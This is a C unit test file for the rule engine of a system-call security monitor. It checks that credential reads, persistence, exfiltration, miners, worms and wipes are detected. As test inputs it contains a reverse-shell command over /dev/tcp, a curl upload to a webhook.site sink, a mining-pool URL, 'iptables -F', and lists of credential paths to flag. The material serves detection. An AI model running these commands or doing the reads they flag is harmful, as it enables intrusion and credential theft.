/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Findings: the rules by the records of the security profile, sequences, who is excused, that all of it stays bounded. What the
 * records of system calls show is tested by running it (tests/findings).
 */
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>

#include <cmocka.h>

#include "acts.h"
#include "base/util.h"
#include "events.h"
#include "findings/findings.h"
#include "findings/findings_model.h"
#include "names.h"

static struct test_event te;
static struct findings *all;
static uint64_t seq;

static void feed(void)
{
	assert_true(test_event__done(&te));
	te.ev.seq = ++seq;
	findings__event(all, &te.ev);
}

/* Names of NAMES, leaf first, of the path that S is. */
static uint32_t names_of(const char *s, char *names)
{
	uint32_t n = 0;

	for (const char *end = s + strlen(s), *p = end; p > s;) {
		while (p[-1] != '/')
			p--;
		memcpy(names + n, p, (size_t)(end - p));
		n += (uint32_t)(end - p);
		names[n++] = 0;
		end = --p;
	}
	return n;
}

static void file(uint32_t pid, uint32_t op, const char *path)
{
	char names[512];

	act_file(&te, op, EV_ALLOWED, 0, names, names_of(path, names));
	test_who(&te, 1000 + pid, pid);
	feed();
}

static void spawn(uint32_t parent, uint32_t child)
{
	struct ev_proc_spawn e = {.child_exec_id = 1000 + child, .child_pid = child, .child_tid = child};

	snprintf(e.task.comm, sizeof(e.task.comm), "p%u", parent);
	record__begin(&te.rec, EV_PROC_SPAWN, 0, &e, sizeof(e));
	test_who(&te, 1000 + parent, parent);
	feed();
}

/* ARGV with a NUL behind each word, LEN with the last. */
static void exec(uint32_t pid, const char *exe, uint32_t flags, const char *cwd, const char *argv, uint32_t len)
{
	struct ev_proc_exec e = {.image_flags = flags};
	char names[512];
	uint32_t n = names_of(exe, names);

	snprintf(e.task.comm, sizeof(e.task.comm), "%s", strrchr(exe, '/') + 1);
	record__begin(&te.rec, EV_PROC_EXEC, 0, &e, sizeof(e));
	test_who(&te, 1000 + pid, pid);
	test_string(&te, EV_EXEC_PATH, exe);
	record__part(&te.rec, EV_EXEC_ARGV, EV_PT_ARGV, EV_PART_OK, argv, len, len);
	record__part(&te.rec, EV_EXEC_EXE, EV_PT_PATH, EV_PART_OK, names, n, n);
	n = names_of(cwd, names);
	record__part(&te.rec, EV_EXEC_CWD, EV_PT_PATH, EV_PART_OK, names, n, n);
	feed();
}
#define EXEC(pid, exe, argv) exec(pid, exe, 0, "/home/u/project", argv, sizeof(argv))

static void finish_exit(uint32_t pid)
{
	struct ev_proc_exit e = {0};

	record__begin(&te.rec, EV_PROC_EXIT, 0, &e, sizeof(e));
	test_who(&te, 1000 + pid, pid);
	feed();
}

static void net(uint32_t pid, uint32_t op, uint32_t addr, uint16_t port)
{
	struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(addr)};

	act_net(&te, op, EV_ALLOWED, 0, (const char *)&in, sizeof(in));
	test_who(&te, 1000 + pid, pid);
	feed();
}

static void kernel(uint32_t op, uint64_t arg)
{
	act_kernel(&te, op, EV_ALLOWED, 0, arg, 0);
	feed();
}

static const struct finding *found(const char *id)
{
	const struct finding *f;

	for (uint32_t i = 0; (f = findings__at(all, i)); i++)
		if (!strcmp(f->rule->id, id))
			return f;
	return NULL;
}

static void must_find(const char *id, enum severity sev, const char *object)
{
	const struct finding *f = found(id);

	if (!f)
		fail_msg("no finding %s", id);
	assert_int_equal(f->severity, sev);
	if (f->len != strlen(object) || memcmp(f->object, object, f->len))
		fail_msg("%s: %.*s, want %s", id, (int)f->len, f->object, object);
}

static void must_not_find(const char *id)
{
	if (found(id))
		fail_msg("found %s: %.*s", id, (int)found(id)->len, found(id)->object);
}

/* ---- one record ---- */

static void tells_paths_of_the_security_profile(void **state)
{
	static const struct {
		const char *id;
		uint32_t op;
		const char *path, *benign;
	} rows[] = {
		{"cred.ssh", EV_FILE_OPEN_READ, "/home/u/.ssh/id_ed25519", "/home/u/ssh/id_ed25519"},
		{"cred.cloud", EV_FILE_OPEN_READ, "/root/.aws/credentials", "/root/aws/credentials"},
		{"cred.npmrc", EV_FILE_OPEN_READ, "/root/.npmrc", "/root/npmrc"},
		{"cred.git", EV_FILE_OPEN_READ, "/root/.git-credentials", "/root/.gitignore"},
		{"cred.docker", EV_FILE_OPEN_READ, "/root/.docker/config.json", "/root/config.json"},
		{"cred.kube", EV_FILE_OPEN_READ, "/root/.kube/config", "/root/.kube/cache"},
		{"cred.gpg", EV_FILE_OPEN_READ, "/root/.gnupg/secring.gpg", "/root/gnupg/x"},
		{"cred.browser", EV_FILE_OPEN_READ, "/root/.mozilla/firefox/a.b/key4.db", "/root/.mozilla/firefox/profiles.ini"},
		{"cred.wallet", EV_FILE_OPEN_READ, "/root/.bitcoin/wallet.dat", "/root/wallet.txt"},
		{"cred.chat", EV_FILE_OPEN_READ, "/root/.config/Slack/Cookies", "/root/.config/Slack/x"},
		{"cred.shadow", EV_FILE_OPEN_READ, "/etc/shadow", "/etc/shade"},
		{"cred.service", EV_FILE_OPEN_READ, "/run/secrets/token", "/run/secret"},
		{"cred.proc_environ", EV_FILE_OPEN_READ, "/proc/12/environ", "/proc/12/status"},
		{"persist.shell-rc", EV_FILE_OPEN_WRITE, "/root/.bashrc", "/root/bashrc"},
		{"persist.cron", EV_FILE_CREATE, "/etc/cron.d/x", "/etc/crypt"},
		{"persist.systemd", EV_FILE_CREATE, "/root/.config/systemd/user/x.service", "/root/x.service"},
		{"persist.autostart", EV_FILE_CREATE, "/root/.config/autostart/x.desktop", "/root/x.desktop"},
		{"persist.authorized-keys", EV_FILE_OPEN_WRITE, "/root/.ssh/authorized_keys", "/root/authorized_keys"},
		{"persist.git-hook", EV_FILE_CREATE, "/src/.git/hooks/pre-commit", "/src/.git/index"},
		{"persist.workflow", EV_FILE_CREATE, "/src/.github/workflows/x.yml", "/src/.github/CODEOWNERS"},
		{"persist.boot", EV_FILE_CREATE, "/etc/init.d/x", "/etc/initial"},
		{"persist.users", EV_FILE_OPEN_WRITE, "/etc/passwd", "/etc/motd"},
		{"persist.sudoers", EV_FILE_CREATE, "/etc/sudoers.d/x", "/etc/sudo.conf"},
		{"inject.preload", EV_FILE_CREATE, "/etc/ld.so.preload", "/etc/ld.so.cache"},
		{"kernel.hook", EV_FILE_OPEN_WRITE, "/proc/sys/kernel/core_pattern", "/proc/self/comm"},
		{"evade.history", EV_FILE_UNLINK, "/root/.bash_history", "/root/history"},
		{"evade.log", EV_FILE_UNLINK, "/var/log/auth.log", "/var/lib/log"},
		{"fs.raw-disk", EV_FILE_OPEN_WRITE, "/dev/sda", "/dev/null"},
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		file(5, rows[i].op, rows[i].benign);
		must_not_find(rows[i].id);
		file(5, rows[i].op, rows[i].path);
		if (!found(rows[i].id))
			fail_msg("%s does not lead to %s", rows[i].path, rows[i].id);
	}
}

static void tells_actions_of_the_security_profile(void **state)
{
	(void)state;
	kernel(EV_KERNEL_SIGNAL, 9);
	kernel(EV_KERNEL_PTRACE, 1); /* looks only */
	assert_int_equal(findings__count(all), 0);
	kernel(EV_KERNEL_PTRACE, 2);
	must_find("inject.ptrace", SEV_HIGH, "");
	kernel(EV_KERNEL_BPF, 5);
	must_find("kernel.bpf", SEV_MEDIUM, "");
	kernel(EV_KERNEL_MODULE, 0);
	must_find("kernel.module", SEV_CRITICAL, "");
	kernel(EV_KERNEL_MOUNT, 0);
	must_find("sandbox.mount", SEV_MEDIUM, "");
	kernel(EV_KERNEL_USERNS, 0);
	must_find("sandbox.namespace", SEV_MEDIUM, "");
	kernel(EV_KERNEL_IO_URING, 0);
	must_find("kernel.io_uring", SEV_MEDIUM, "");
	kernel(EV_KERNEL_OWN_MAP, 0);
	must_find("sandbox.recorder", SEV_CRITICAL, "");
	act_file(&te, EV_FILE_CHMOD, EV_ALLOWED, 0, "sh\0tmp\0", 7);
	act_file_of(&te)->arg = 0755;
	feed();
	must_not_find("fs.setuid");
	act_file(&te, EV_FILE_CHMOD, EV_ALLOWED, 0, "sh\0tmp\0", 7);
	act_file_of(&te)->arg = 04755;
	feed();
	must_find("fs.setuid", SEV_CRITICAL, "/tmp/sh");
	act_file(&te, EV_FILE_MPROTECT_EXEC, EV_ALLOWED, 0, NULL, 0);
	act_file_of(&te)->file_flags = EV_FILE_FLAG_ANONYMOUS | EV_FILE_FLAG_WRITTEN;
	feed();
	must_not_find("memory.wx");
	act_file_of(&te)->file_flags = EV_FILE_FLAG_ANONYMOUS | EV_FILE_FLAG_WRITABLE;
	feed();
	must_find("memory.wx", SEV_MEDIUM, "");
}

static void tells_addresses(void **state)
{
	(void)state;
	net(5, EV_NET_CONNECT, 0x7f000001, 6667);
	net(5, EV_NET_LISTEN, 0x7f000001, 80);
	net(5, EV_NET_CONNECT, 0xcb007107, 443);
	assert_int_equal(findings__count(all), 0);
	net(5, EV_NET_CONNECT, 0xcb007107, 6667);
	must_find("net.port", SEV_HIGH, "203.0.113.7:6667");
	net(5, EV_NET_CONNECT, 0xa9fea9fe, 80);
	must_find("net.metadata", SEV_CRITICAL, "169.254.169.254:80");
	net(5, EV_NET_LISTEN, 0, 8080);
	must_find("net.listen", SEV_MEDIUM, "0.0.0.0:8080");
}

static void tells_programs(void **state)
{
	(void)state;
	EXEC(5, "/usr/bin/env", "env\0A=1\0true");
	EXEC(5, "/usr/sbin/iptables", "iptables\0-L");
	EXEC(5, "/usr/bin/bash", "bash\0-c\0echo ok");
	assert_int_equal(findings__count(all), 0);
	EXEC(5, "/usr/bin/env", "env");
	must_find("cred.env_enum", SEV_MEDIUM, "env");
	EXEC(5, "/usr/sbin/iptables", "iptables\0-F");
	must_find("exec.kill_security", SEV_CRITICAL, "iptables -F");
	EXEC(5, "/usr/bin/bash", "bash\0-c\0bash -i >& /dev/tcp/1.2.3.4/9 0>&1");
	must_find("exec.reverse_shell", SEV_CRITICAL, "bash -c bash -i >& /dev/tcp/1.2.3.4/9 0>&1");
	EXEC(5, "/opt/x", "x\0-o\0stratum+tcp://pool.example:3333");
	must_find("mine.miner", SEV_HIGH, "x -o stratum+tcp://pool.example:3333");
	EXEC(5, "/usr/bin/curl", "curl\0-d\0@x\0https://a:b@X.Webhook.SITE:1/y");
	must_find("net.known_sink", SEV_CRITICAL, "X.Webhook.SITE");
	exec(5, "/memfd:x", EV_IMG_MEMFD, "/", "x", 2);
	must_find("exec.fileless", SEV_HIGH, "/memfd:x");
}

/* ---- sequences ---- */

static void tells_a_secret_that_may_have_left(void **state)
{
	const struct finding *f;

	(void)state;
	EXEC(5, "/usr/bin/dash", "sh");
	spawn(5, 6);
	spawn(5, 7);
	net(7, EV_NET_CONNECT, 0xcb007107, 443);
	file(6, EV_FILE_OPEN_READ, "/root/.ssh/id_rsa");
	net(7, EV_NET_CONNECT, 0x7f000001, 443);
	net(7, EV_NET_SEND, 0xcb007107, 53);
	must_not_find("exfil.after_read");
	net(7, EV_NET_CONNECT, 0xcb007107, 443);
	must_find("exfil.after_read", SEV_CRITICAL, "203.0.113.7:443");
	f = found("exfil.after_read");
	assert_int_equal(f->who.pid, 7);
	assert_int_equal(f->n_ancestors, 1);
	assert_int_equal(f->ancestors[0].pid, 5);
	assert_int_equal(f->n_steps, 1);
	assert_int_equal(f->steps[0].who.pid, 6);
	assert_string_equal(f->steps[0].object, "/root/.ssh/id_rsa");
	assert_true(f->steps[0].seq < f->seq);
}

/* What a package manager starts is a tree of its own, but what was read around it can be handed down. */
static void keeps_packages_apart(void **state)
{
	(void)state;
	EXEC(5, "/usr/bin/node", "node\0/usr/bin/npm\0install");
	spawn(5, 6);
	spawn(5, 7);
	file(6, EV_FILE_OPEN_READ, "/root/.netrc");
	net(7, EV_NET_CONNECT, 0xcb007107, 443);
	net(5, EV_NET_CONNECT, 0xcb007107, 443);
	must_not_find("exfil.after_read");
	spawn(6, 8);
	net(8, EV_NET_CONNECT, 0xcb007107, 443);
	must_find("exfil.after_read", SEV_CRITICAL, "203.0.113.7:443");
	findings__free(all);
	all = findings__new();
	EXEC(4, "/usr/bin/dash", "sh");
	file(4, EV_FILE_OPEN_READ, "/root/.netrc");
	spawn(4, 5);
	EXEC(5, "/usr/bin/node", "node\0/usr/bin/npm\0install");
	spawn(5, 6);
	net(6, EV_NET_CONNECT, 0xcb007107, 443);
	assert_non_null(found("exfil.after_read"));
}

static void tells_what_was_written_and_run(void **state)
{
	(void)state;
	EXEC(5, "/usr/bin/dash", "sh");
	EXEC(6, "/usr/bin/x86_64-linux-gnu-ld.bfd", "ld");
	file(6, EV_FILE_OPEN_WRITE, "/src/prog");
	EXEC(7, "/src/prog", "prog");
	must_not_find("exec.dropped");
	file(5, EV_FILE_CREATE, "/src/made");
	EXEC(7, "/src/made", "made");
	must_not_find("exec.dropped"); /* nobody wrote to it */
	file(5, EV_FILE_OPEN_WRITE, "/src/made");
	act_file(&te, EV_FILE_RENAME, EV_ALLOWED, 0, "made\0src\0", 9);
	act_second(&te, "bun\0src\0", 8);
	test_who(&te, 1005, 5);
	feed();
	EXEC(7, "/src/bun", "bun");
	must_find("exec.dropped", SEV_HIGH, "/src/bun");
	must_find("exec.second_runtime", SEV_HIGH, "/src/bun");
	EXEC(8, "/usr/bin/curl", "curl\0-O\0https://h.example/x");
	file(8, EV_FILE_OPEN_WRITE, "/src/x");
	must_not_find("exec.download");
	EXEC(9, "/usr/bin/bash", "bash\0/src/x");
	must_find("exec.download", SEV_CRITICAL, "/src/x");
}

static void tells_questions(void **state)
{
	const struct finding *f;

	(void)state;
	EXEC(5, "/usr/bin/whoami", "whoami");
	EXEC(5, "/usr/bin/id", "id");
	EXEC(5, "/usr/bin/id", "id\0-u");
	must_not_find("exec.recon");
	EXEC(5, "/usr/bin/hostname", "hostname");
	f = found("exec.recon");
	assert_non_null(f);
	assert_int_equal(f->n_steps, 2);
	assert_string_equal(f->steps[1].object, "id");
}

static void tells_what_an_install_must_not_do(void **state)
{
	(void)state;
	EXEC(4, "/usr/bin/git", "git\0push");
	must_not_find("publish.worm");
	EXEC(5, "/usr/bin/node", "node\0/usr/bin/npm\0install");
	spawn(5, 6);
	exec(6, "/usr/bin/dash", 0, "/p/node_modules/a", "sh\0-c\0x", 7);
	file(6, EV_FILE_OPEN_WRITE, "/p/node_modules/a/index.js");
	file(6, EV_FILE_CREATE, "/p/node_modules/.bin/a");
	must_not_find("fs.tamper");
	file(6, EV_FILE_OPEN_WRITE, "/p/node_modules/b/index.js");
	must_find("fs.tamper", SEV_HIGH, "/p/node_modules/b/index.js");
	spawn(6, 7);
	EXEC(7, "/usr/bin/git", "git\0push\0origin");
	must_find("publish.worm", SEV_CRITICAL, "git push origin");
}

static void tells_a_wipe(void **state)
{
	char path[64];

	(void)state;
	EXEC(5, "/usr/bin/rm", "rm");
	for (int i = 0; i < 200; i++) {
		snprintf(path, sizeof(path), "/home/u/project/%d", i);
		file(5, EV_FILE_UNLINK, path);
		snprintf(path, sizeof(path), "/home/u/mine/%d", i);
		file(5, EV_FILE_CREATE, path);
		file(5, EV_FILE_UNLINK, path);
	}
	must_not_find("fs.wipe");
	for (int i = 0; i < WIPE_FILES; i++) {
		snprintf(path, sizeof(path), "/home/u/photos/%d", i);
		file(5, EV_FILE_UNLINK, path);
	}
	must_find("fs.wipe", SEV_CRITICAL, path);
	assert_int_equal(found("fs.wipe")->count, 1);
	file(5, EV_FILE_UNLINK, "/usr/bin/rm");
	must_find("evade.self_delete", SEV_HIGH, "/usr/bin/rm");
}

/* ---- names ---- */

/* A question over UDP, as process 5 sends it. */
static void ask(const char *name)
{
	struct names_test t = {.names = names__new(), .tgid = 5};
	uint8_t q[300] = {0, 7, 1, 0, 0, 1};
	size_t n = 12;

	assert_non_null(t.names);
	for (const char *dot; *name; name = dot + (*dot == '.')) {
		dot = strchrnul(name, '.');
		q[n++] = (uint8_t)(dot - name);
		memcpy(q + n, name, (size_t)(dot - name));
		n += (size_t)(dot - name);
	}
	q[n + 2] = q[n + 4] = 1; /* the root; A, IN */
	assert_true(names_test__udp(&t, q, n + 5, false));
	t.ev.seq = ++seq;
	findings__event(all, &t.ev);
	names__free(t.names);
}

/* Process 5 connects to 203.0.113.LAST, which was asked for as HOST. */
static void connects(uint8_t last, const char *host)
{
	struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons(443), .sin_addr.s_addr = htonl(0xcb007100 | last)};

	act_net(&te, EV_NET_CONNECT, EV_ALLOWED, 0, (const char *)&in, sizeof(in));
	test_who(&te, 1005, 5);
	assert_true(test_event__done(&te));
	te.ev.seq = ++seq;
	te.ev.host = host;
	findings__event(all, &te.ev);
}

static void tells_names(void **state)
{
	struct sockaddr_in in = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(0xcb007107)};
	const struct part addr = {.data = (const uint8_t *)&in, .len = sizeof(in), .state = EV_PART_OK};
	char name[96];

	(void)state;
	connects(7, NULL);
	must_not_find("net.raw_ip"); /* no names are seen */
	for (int i = 0; i < 12; i++) {
		snprintf(name, sizeof(name), "host%d.example.org", i);
		ask(name);
	}
	ask("registry.npmjs.org");
	assert_int_equal(findings__count(all), 0);
	ask("q.oast.fun");
	must_find("net.known_sink", SEV_CRITICAL, "q.oast.fun");
	assert_int_equal(found("net.known_sink")->seq, seq);
	ask("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.x.example");
	assert_non_null(found("dns.exfil"));
	assert_int_equal(found("dns.exfil")->count, 1);
	for (int i = 0; i < 90; i++) {
		snprintf(name, sizeof(name), "d%d.evil.example", i);
		ask(name);
	}
	assert_int_equal(findings__count(all), 3);

	connects(7, "registry.npmjs.org");
	must_not_find("net.raw_ip");
	assert_string_equal(findings__name_of(all, &addr), "registry.npmjs.org");
	connects(8, NULL);
	must_not_find("net.raw_ip"); /* it ran before: nobody knows what it had asked for */
	EXEC(5, "/usr/bin/curl", "curl");
	connects(8, NULL);
	must_find("net.raw_ip", SEV_HIGH, "203.0.113.8:443");
}

/* Server names of TLS clients, and more questions in a segment than there are facts. */
static void tells_names_of_tls(void **state)
{
	struct names_seen seen = {.hello_ends = true, .hello.name = "x.webhook.site"};
	struct names_test t = {.tgid = 5};
	static const uint8_t q[] = "\0\7\1\0\0\1\0\0\0\0\0\0\1x\12supportxmr\3com\0\0\1\0\1";

	(void)state;
	assert_true(names_test__record(&t, EV_NAME_TLS_HELLO, 6, "", 0, 0));
	t.ev.seen = &seen;
	findings__event(all, &t.ev);
	must_find("net.known_sink", SEV_CRITICAL, "x.webhook.site");
	seen = (struct names_seen){.n = NAMES_MESSAGES};
	for (unsigned int i = 0; i < NAMES_MESSAGES; i++)
		seen.messages[i] = (struct names_message){.data = q, .len = sizeof(q) - 1};
	assert_true(names_test__record(&t, EV_NAME_DNS_QUERY, 6, "", 0, 0));
	t.ev.seen = &seen;
	findings__event(all, &t.ev);
	must_find("mine.pool", SEV_HIGH, "x.supportxmr.com");
	assert_int_equal(found("mine.pool")->count, FACTS_MAX);
	t.ev.seen = NULL; /* no memory for it */
	findings__event(all, &t.ev);
}

/* ---- who is excused ---- */

static void excuses_whose_business_it_is(void **state)
{
	(void)state;
	EXEC(5, "/usr/bin/node", "node\0/usr/bin/npm\0install");
	file(5, EV_FILE_OPEN_READ, "/root/.npmrc");
	must_find("cred.npmrc", SEV_INFO, "/root/.npmrc");
	assert_true(found("cred.npmrc")->expected);
	net(5, EV_NET_CONNECT, 0xcb007107, 443);
	must_not_find("exfil.after_read");
	EXEC(6, "/usr/bin/ssh", "ssh\0host");
	file(6, EV_FILE_OPEN_READ, "/root/.ssh/id_rsa");
	must_find("cred.ssh", SEV_INFO, "/root/.ssh/id_rsa");
}

/* A name alone excuses nobody: not where anybody can put a file, and not what this run wrote. */
static void excuses_nobody_by_name(void **state)
{
	(void)state;
	EXEC(5, "/home/u/project/ssh", "ssh\0host");
	file(5, EV_FILE_OPEN_READ, "/root/.ssh/id_rsa");
	must_find("cred.ssh", SEV_HIGH, "/root/.ssh/id_rsa");
	EXEC(6, "/usr/bin/node", "node\0npm\0install");
	file(6, EV_FILE_OPEN_READ, "/root/.npmrc");
	must_find("cred.npmrc", SEV_HIGH, "/root/.npmrc");
	file(7, EV_FILE_OPEN_WRITE, "/usr/local/bin/git");
	EXEC(7, "/usr/local/bin/git", "git");
	file(7, EV_FILE_OPEN_READ, "/root/.git-credentials");
	must_find("cred.git", SEV_HIGH, "/root/.git-credentials");
}

/* ---- bounds ---- */

static void stays_bounded(void **state)
{
	char path[64];

	(void)state;
	EXEC(1, "/usr/bin/node", "node\0/usr/bin/npm\0install");
	for (uint32_t i = 2; i < 6000; i++) {
		spawn(1, i); /* each a tree of its own, none of which ends */
		snprintf(path, sizeof(path), "/d/%u/.env", i);
		file(i, EV_FILE_OPEN_WRITE, path);
		net(i, EV_NET_CONNECT, 0xcb000000 + i, 25);
	}
	assert_true(findings__count(all) <= FINDINGS_MAX);
	assert_true(findings__dropped(all) > 0);
	assert_true(findings__forgotten(all) > 0);
	findings__finish(all, &(struct findings_end){.lost = 3, .oom_kills = 1});
	assert_non_null(found("trace.incomplete"));
	must_find("limit.hit", SEV_MEDIUM, "");
	for (uint32_t i = 1; i < findings__count(all); i++)
		assert_true(findings__at(all, i - 1)->severity >= findings__at(all, i)->severity);
}

static void counts_the_living_that_it_forgets(void **state)
{
	(void)state;
	EXEC(1, "/usr/bin/dash", "sh");
	for (uint32_t i = 2; i <= ST_PROCS + 10; i++)
		spawn(1, i);
	assert_true(findings__forgotten(all) >= 10);
}

/* No number of a process is a mark of the table's own. */
static void takes_any_number_of_a_process(void **state)
{
	(void)state;
	for (uint32_t i = 0; i < 3; i++) {
		file(0, EV_FILE_OPEN_READ, "/root/.netrc");
		for (uint32_t k = 1; k < ST_PROCS + 2; k++)
			file(UINT32_MAX - k, EV_FILE_OPEN_READ, "/x");
	}
	assert_int_equal(found("cred.netrc")->count, 3);
}

/* Processes that have ended give way without a word: nothing that goes on is forgotten. */
static void forgets_the_dead_first(void **state)
{
	(void)state;
	EXEC(1, "/usr/bin/dash", "sh");
	for (uint32_t i = 2; i < 3 * ST_PROCS; i++) {
		spawn(1, i);
		finish_exit(i);
	}
	assert_int_equal(findings__forgotten(all), 0);
	file(1, EV_FILE_OPEN_READ, "/root/.netrc");
	assert_int_equal(found("cred.netrc")->who.pid, 1);
	assert_string_equal(state__proc(&all->st, 1)->program, "dash");
}

static void matches_patterns(void **state)
{
	static const struct {
		const char *pattern, *path;
		bool match;
	} rows[] = {
		{"/etc/shadow*", "/etc/shadow", true},
		{"/etc/shadow*", "/etc/shadow-", true},
		{"/etc/shadow*", "/etc/shadow/x", false},
		{"**/.env", ".env", true},
		{"**/.env", "/a/b/.env", true},
		{"**/.env", "/a/x.env", false},
		{"**/.env", "/a/.env/b", false},
		{"**/.ssh/**", "/root/.ssh/id", true},
		{"**/.ssh/**", "/root/.ssh/", false},
		{"**/.ssh/**", "/root/.ssh", false},
		{"/proc/*/mem", "/proc/1/mem", true},
		{"/proc/*/mem", "/proc/1/task/1/mem", false},
		{"/etc/rc?.d/**", "/etc/rc3.d/S01", true},
		{"**/.*_history", "/root/.bash_history", true},
		{"a*b*c", "aXbYbZc", true},
		{"a*b*c", "aXbYbZ", false},
		{"/x/**/y", "/x/y", true},
		{"/x/**/y", "/x/a/b/y", true},
		{"/x/**/y", "/x/a/by", false},
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++)
		if (rule__glob(rows[i].pattern, rows[i].path, strlen(rows[i].path)) != rows[i].match)
			fail_msg("%s against %s", rows[i].pattern, rows[i].path);
	assert_true(rule__word("*/dev/tcp/*", "x >/dev/tcp/1/2", 15));
	assert_false(rule__word("-e", "-ee", 3));
	assert_true(rule__domain("a.b", "x.A.b.", 6));
	assert_false(rule__domain("a.b", "xa.b", 4));
	assert_true(rule__listed("npm npx", "npx"));
	assert_false(rule__listed("npm npx", "np"));
	assert_false(rule__listed("npm npx", ""));
	assert_int_equal(rule__roles("python3.11"), ROLE_INTERPRETER | ROLE_RUNTIME);
	assert_true(rule__roles("x86_64-linux-gnu-gcc-12") & ROLE_BUILDER);
	assert_true(rule__recon_bit("whoami") != rule__recon_bit("id"));
}

static void resolves_paths(void **state)
{
	static const struct {
		const char *cwd, *text, *want;
	} rows[] = {
		{"/a/b", "c", "/a/b/c"},     {"/a/b", "../c", "/a/c"},	   {"/a/b", "./c/../d", "/a/b/d"}, {"/a/b", "/x//y/./z", "/x/y/z"},
		{"/a/b", "../../../c", "/c"}, {"/", "..", "/"},		   {"", "c/d", "c/d"},		    {"", "../c", "../c"},
	};
	struct st_proc *p = state__proc(&all->st, 5);

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		const struct fact f = {.dirfd = AT_FDCWD, .text = rows[i].text, .len = strlen(rows[i].text)};
		char buf[64];
		size_t len;

		snprintf(p->cwd, sizeof(p->cwd), "%s", rows[i].cwd);
		len = state__path(&all->st, p, &f, buf, sizeof(buf));
		if (len != strlen(rows[i].want) || memcmp(buf, rows[i].want, len))
			fail_msg("%s in %s: %.*s", rows[i].text, rows[i].cwd, (int)len, buf);
	}
}

/* A rule for a call that does not exist would never fire. */
static void names_only_calls_there_are(void **state)
{
	static const enum ev_abi abis[] = {EV_ABI_NATIVE, EV_ABI_COMPAT32};
	const char *name;

	(void)state;
	for (size_t i = 0; (name = fact__call_at(i)); i++) {
		bool known = false;

		for (size_t k = 0; k < ARRAY_SIZE(abis); k++)
			known = known || syscalls__number(abis[k], name) >= 0;
		if (!known)
			fail_msg("no such call: %s", name);
	}
}

static int new_findings(void **state)
{
	(void)state;
	seq = 0;
	all = findings__new();
	return all ? 0 : -1;
}

static int free_findings(void **state)
{
	(void)state;
	findings__free(all);
	return 0;
}

static int set_up(void **state)
{
	(void)state;
	return syscalls__init();
}

#define TEST(f) cmocka_unit_test_setup_teardown(f, new_findings, free_findings)
int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(tells_paths_of_the_security_profile),
		TEST(tells_actions_of_the_security_profile),
		TEST(tells_addresses),
		TEST(tells_programs),
		TEST(tells_a_secret_that_may_have_left),
		TEST(keeps_packages_apart),
		TEST(tells_what_was_written_and_run),
		TEST(tells_questions),
		TEST(tells_what_an_install_must_not_do),
		TEST(tells_a_wipe),
		TEST(tells_names),
		TEST(tells_names_of_tls),
		TEST(excuses_whose_business_it_is),
		TEST(excuses_nobody_by_name),
		TEST(stays_bounded),
		TEST(counts_the_living_that_it_forgets),
		TEST(takes_any_number_of_a_process),
		TEST(forgets_the_dead_first),
		TEST(matches_patterns),
		TEST(resolves_paths),
		TEST(names_only_calls_there_are),
	};

	return cmocka_run_group_tests_name("findings", tests, set_up, NULL);
}
